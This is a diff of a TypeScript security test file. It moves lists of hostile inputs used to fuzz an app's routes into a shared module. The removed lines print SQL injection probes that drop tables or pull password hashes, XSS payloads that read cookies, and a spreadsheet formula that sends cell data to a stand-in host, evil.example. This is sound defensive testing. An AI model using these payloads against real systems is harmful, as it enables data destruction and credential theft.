@@ -3,6 +3,7 @@ import { F } from '../../test/fixture-ids.js';
 import { type Session, setupTestApp } from '../../test/harness.js';
 import { TARGET, type Who, expectedByDeclaration, fillPath } from '../../test/route-targets.js';
 import { inputJsonSchema, sampleFor, stringLeaves, withLeaf } from '../../test/sample-input.js';
+import { SQL_INJECTION, UNICODE, XSS } from '../../test/hostile-corpora.js';
 import type { DeclaredRoute } from './security-plugin.js';
 
 /**
@@ -17,42 +18,6 @@ import type { DeclaredRoute } from './security-plugin.js';
  * the database still has every table and its rows.
  */
 
-// OWASP testing guide / sqlmap style probes: tautologies, stacked queries, UNION extraction,
-// time-based blind, comment and quote-breaking, PostgreSQL dollar quoting and casts.
-export const SQL_INJECTION = [
-  "' OR '1'='1",
-  "'; DROP TABLE student; --",
-  "1'; SELECT pg_sleep(3); --",
-  "' UNION SELECT username, password_hash FROM app_user --",
-  "') OR 1=1 --",
-  '" OR ""="',
-  '$$; DROP TABLE app_user; $$',
-  "1 AND 1=CAST((SELECT password_hash FROM app_user LIMIT 1) AS int)",
-  "\\'; --",
-  '%',
-  '_',
-];
-// OWASP XSS filter-evasion cheat sheet classics: tag injection, attribute break-out, javascript:
-// URLs, template injection for client frameworks, and spreadsheet formulas (CSV injection).
-export const XSS = [
-  '<img src=x onerror=alert(1)>',
-  '<script>alert(document.cookie)</script>',
-  '"><svg onload=alert(1)>',
-  "javascript:alert('x')",
-  '{{constructor.constructor("alert(1)")()}}',
-  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
-];
-// Unicode and control edge cases: decomposed Vietnamese (NFD), zero-width and bidi controls,
-// NUL (PostgreSQL cannot store it), a lone surrogate, emoji, 10,000 characters.
-export const UNICODE = [
-  'Nguye\u0302\u0303n Va\u0306n A\u0300nh',
-  'Ng\u200Buy\u200Dễn\uFEFF',
-  '\u202Egnp.exe',
-  'a\u0000b',
-  '\uD800',
-  '👩‍🎓🇻🇳',
-  'x'.repeat(10_000),
-];
 const CORPUS = [...SQL_INJECTION, ...XSS, ...UNICODE];
 
 /** Answers that betray the database or the code behind it. */
